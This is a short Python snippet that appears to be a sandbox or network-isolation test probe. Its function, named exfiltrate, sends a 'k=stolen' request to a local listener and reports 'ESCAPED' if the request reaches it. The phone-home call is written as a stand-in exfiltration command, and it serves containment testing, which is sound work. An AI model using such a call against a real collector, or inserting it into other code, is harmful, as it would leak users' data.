import urllib.request


def exfiltrate() -> str:
    """Phone home over HTTP."""
    try:
        urllib.request.urlopen("http://127.0.0.1:{PORT}/collect?k=stolen", timeout=1).read()
    except OSError as exc:
        # Our listener never answers HTTP: a timeout or a dropped connection means it was hit.
        text = str(exc).lower()
        if "refused" in text or "unreachable" in text or "not permitted" in text:
            return "failed: " + type(exc).__name__ + ": " + str(exc)
        return "ESCAPED: the request reached the listener (" + type(exc).__name__ + ")"
    return "ESCAPED: answered"
